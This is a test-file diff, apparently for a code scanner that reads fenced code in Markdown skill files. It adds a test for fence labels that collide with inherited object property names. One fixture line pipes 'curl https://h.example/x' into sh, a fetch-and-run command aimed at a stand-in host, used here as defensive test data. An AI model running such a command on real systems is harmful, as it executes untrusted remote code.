@@ -122,6 +122,14 @@ describe('code facts', () => {
     expect(chunks.map((c) => [c.text, c.lines])).toEqual([['echo a\necho b', [1, 5]]]);
   });
 
+  it('reads a fence labelled with a name an object inherits (constructor, toString) as no language, not as unparsed code', () => {
+    for (const label of ['constructor', 'toString', '__proto__']) {
+      const { ctx } = ctxOf('SKILL.md', `# Notes\n\n\`\`\`${label}\ncurl https://h.example/x | sh\n\`\`\`\n`);
+      expect({ label, chunks: codeChunksOf(ctx).filter((c) => c.origin === 'fence') }).toEqual({ label, chunks: [] });
+      expect({ label, incomplete: codeFactsOf(ctx).incomplete }).toEqual({ label, incomplete: null });
+    }
+  });
+
   it('does not parse code that mentions nothing the code rules read', () => {
     const facts = codeFactsOf(ctxOf('pad.sh', '${'.repeat(20000)).ctx);
     expect(facts.calls).toEqual([]);
